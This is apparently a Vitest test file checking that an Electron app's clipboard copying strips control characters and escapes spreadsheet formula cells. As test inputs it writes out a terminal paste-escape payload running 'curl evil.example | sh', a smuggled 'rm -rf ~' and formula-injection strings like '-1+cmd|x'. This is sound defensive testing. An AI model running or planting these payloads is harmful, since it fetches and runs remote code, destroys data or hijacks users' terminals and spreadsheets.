/** What a provider's text may not do where it is pasted. */
import { afterAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { moneyText } from '../../../src/shared/i18n/format.ts'
import type { Copied } from '../../../src/shared/models/copied.ts'
import { diagnosticText } from '../../../src/shared/models/diagnostics.ts'

const electron = vi.hoisted(() => ({ text: '' }))
vi.mock('electron', () => ({ clipboard: { writeText: async (text: string) => void (electron.text = text) } }))
// Another test file's Electron may be in the module already.
vi.resetModules()
const { copyText } = await import('../../../src/main/desktop/clipboard.ts')
afterAll(() => void vi.resetModules())

beforeEach(() => {
  electron.text = ''
})
async function copied(what: Copied): Promise<string> {
  await copyText(what)
  return electron.text
}

/** Each control character, and the line breaks of Unicode. */
const CONTROLS = [...Array.from({ length: 0xa0 }, (_none, code) => code), 0x2028, 0x2029]
  .map((code) => String.fromCharCode(code))
  .filter((character) => /[\p{Cc}\u2028\u2029]/u.test(character))
/** It ends a terminal's bracketed paste and runs what follows; in C1 characters as well. */
const PASTE_END = '\u001b[201~\rcurl evil.example | sh\r'
const PASTE_END_C1 = '\u009b201~\u0085curl evil.example | sh\n'

describe('one value', () => {
  test('of every control character none is left', async () => {
    expect(CONTROLS).toHaveLength(32 + 33 + 2)
    for (const control of CONTROLS) expect(await copied({ lines: [`a${control}b`] })).toBe('a b')
    expect(await copied({ lines: [`a${CONTROLS.join('')}b`] })).toBe('a b')
  })

  test.each([
    [PASTE_END, '[201~ curl evil.example | sh'],
    [PASTE_END_C1, '201~ curl evil.example | sh'],
    ['INV-1\r', 'INV-1'],
    ['INV-1\u2028rm -rf ~\u2029', 'INV-1 rm -rf ~'],
    ['\u007f\u007fINV-1', 'INV-1'],
    ['INV-1\tx', 'INV-1 x'],
    // Nobody pastes one value as a table.
    ['=1+1', '=1+1'],
    ['Zoë 👩‍💻 שלום', 'Zoë 👩‍💻 שלום']
  ])('%j is copied as %j', async (text, expected) => expect(await copied({ lines: [text] })).toBe(expected))

  test('of several lines, such as an address, has line breaks between them only', async () => {
    expect(await copied({ lines: ['1 Quay\nStreet', 'Zürich\u001b[2J', 'CH'] })).toBe('1 Quay Street\nZürich [2J\nCH')
  })

  test('a link', async () => {
    expect(await copied({ lines: ['https://docs.example/\u0000a\nb'] })).toBe('https://docs.example/ a b')
  })
})

describe('text with the app’s own line breaks', () => {
  test('a record as JSON keeps its lines and stays JSON', async () => {
    const record = { name: `a${CONTROLS.join('')}b`, path: [-5, '=1'] }
    const text = JSON.stringify(record, null, 2)
    const made = await copied({ text })
    expect(made.split('\n')).toHaveLength(text.split('\n').length)
    expect(made).not.toMatch(/(?!\n)[\p{Cc}\u2028\u2029]/u)
    expect(JSON.parse(made)).toMatchObject({ path: [-5, '=1'] })
  })

  test('a diagnostics report', async () => {
    const parts = [{ name: 'system', text: `Linux\n- one${PASTE_END}\n`, replaced: 0 }] as const
    const text = diagnosticText({ head: 'Portside\n========', parts: [...parts] })
    expect(await copied({ text })).toBe('Portside\n========\n\nLinux\n- one [201~ curl evil.example | sh\n\n')
  })

  test('lines of Windows are lines, and a lone carriage return is none', async () => {
    expect(await copied({ text: 'a\r\nb\rc\n\r\nd' })).toBe('a\nb c\n\nd')
  })
})

describe('several rows as a table', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+cmd|x', "'-1+cmd|x"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\uff1d1', "'\uff1d1"],
    ['\u001b=1', "'=1"],
    ['\u200b=1', "'\u200b=1"],
    ['\n=1', "'=1"],
    ['a\n=1', 'a =1'],
    ['a\t=1', 'a =1'],
    ['a,=1', "a,'=1"],
    ['a;=1', "a;'=1"],
    // Spreadsheets read these as numbers.
    ['-5', '-5'],
    ['-€1,234.50', '-€1,234.50'],
    ['-1.234,50\u00a0€', '-1.234,50\u00a0€'],
    ['-1\u202f234,50\u00a0€', '-1\u202f234,50\u00a0€'],
    ['-R$\u00a01.234,50', '-R$\u00a01.234,50'],
    ['-CHF\u00a01’234.50', '-CHF\u00a01’234.50'],
    ['-US$1,234.50', '-US$1,234.50'],
    ['-1.234,50\u00a0CHF', '-1.234,50\u00a0CHF'],
    ['-1+cmd|x', "'-1+cmd|x"],
    ['-A1', "'-A1"],
    ['-USD1', "'-USD1"],
    ['INV-1', 'INV-1']
  ])('the cell %j is %j', async (cell, expected) => {
    const made = await copied({ rows: [['a', cell], [cell]] })
    expect(made).toBe(`a\t${expected}\n${expected}`)
  })

  test('negative amounts stay numbers in every language', async () => {
    for (const locale of ['en-US', 'de-DE', 'de-CH', 'es-ES', 'fr-FR', 'pt-BR', 'ru-RU', 'zh-CN', 'sv-SE', 'hi-IN']) {
      for (const currency of ['EUR', 'USD', 'BRL', 'CHF', 'RUB', 'XAF', null]) {
        const amount = moneyText({ amount: '-1234567.5', currency }, locale)
        expect(await copied({ rows: [['a', amount], ['b']] })).toBe(`a\t${amount}\nb`)
      }
    }
  })

  test('a single row is a value', async () => {
    expect(await copied({ rows: [[`=1${PASTE_END}`]] })).toBe('=1 [201~ curl evil.example | sh')
  })
})

test('the cost of megabytes is linear', async () => {
  const long = '\u001b=\u2028'.repeat(500_000)
  expect(await copied({ lines: [long] })).toHaveLength(1_000_000 - 1)
  expect(await copied({ text: long })).toHaveLength(1_000_001)
  expect(await copied({ rows: [[long], ['a']] })).toContain("'")
})
